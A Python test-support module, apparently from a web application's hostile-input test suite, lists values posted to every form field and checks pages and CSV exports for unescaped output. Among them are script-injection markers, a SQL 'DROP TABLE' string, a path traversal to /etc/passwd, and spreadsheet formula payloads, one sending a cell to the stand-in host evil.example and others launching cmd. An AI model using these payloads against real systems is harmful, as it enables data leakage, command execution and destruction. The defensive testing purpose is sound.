"""The hostile values posted to every field of every form (tests/hostile/test_every_form.py), and
how a page or a CSV file shows that one was not made safe."""

import csv
import io
import re

# Markers whose appearance, as they are, in a page means the value was not escaped.
SCRIPT = '<script>alert("hx-script")</script>'
BREAKS_ATTRIBUTE = '"><hx-tag data-hx="1">'
BREAKS_SINGLE_QUOTED = "' data-hx-single='1"
UNESCAPED = ("<script>alert(", "<hx-tag", 'data-hx="', "data-hx-single='")

CONTROL_CHARACTERS = {
    "NUL": "before\x00after",
    "lone CR": "one\rline",
    # Each is refused on its own too (tests/hostile/test_control_characters.py).
    "escape, backspace, DEL, C1": "colour \x1b[31m back\x08 del\x7f next\x85",
}
MARKERS = f"{SCRIPT} {BREAKS_ATTRIBUTE} {BREAKS_SINGLE_QUOTED}"
FORMULAS = {
    "=HYPERLINK": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd": "+cmd|' /C calc'!A0",
    "@SUM": "@SUM(1+1)*cmd|' /C calc'!A0",
    "-formula": "-2+3+cmd|' /C calc'!A0",
    "tab formula": "\t=1+1",
}
TEXT = {
    "markers": MARKERS,
    "unicode": "Oak \u202eesuoH\u202c House \u200b\u200c\u200d\ufeff 🏠👩‍👩‍👧‍👦🇬🇧 Z\u0351\u0352a\u0354lgo",
    "code": "Robert'); DROP TABLE user;-- {{ 7*7 }} ${7*7} javascript:alert(1) ../../../../etc/passwd",
    **FORMULAS,
}
NUMBERS = {
    "negative": "-1",
    "huge": "9" * 40,
    "past 64 bits": str(2**63),
    "decimal": "3.5",
    "exponent": "1e9",
    "digits of another script": "٣",
    "superscript": "²",
    "thousands": "1,000",
}
DATES = {
    "impossible date": "31/02/2026",
    "far-future date": "01/01/99999",
    "date of birth": "born 01/02/2015",
}
LONG = "x" * 100_000

CORPUS = {**CONTROL_CHARACTERS, **TEXT, **NUMBERS, **DATES}


def unescaped_markers(html: str) -> list[str]:
    return [marker for marker in UNESCAPED if marker in html]


RISKY_FIRST = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(\.\d+)?")


def unguarded_cells(text: str) -> list[str]:
    """Cells a spreadsheet would run as a formula: starting = + - @ tab or CR, unless a plain number."""
    return [
        cell
        for row in csv.reader(io.StringIO(text))
        for cell in row
        if cell[:1] in RISKY_FIRST and not NUMBER.fullmatch(cell)
    ]
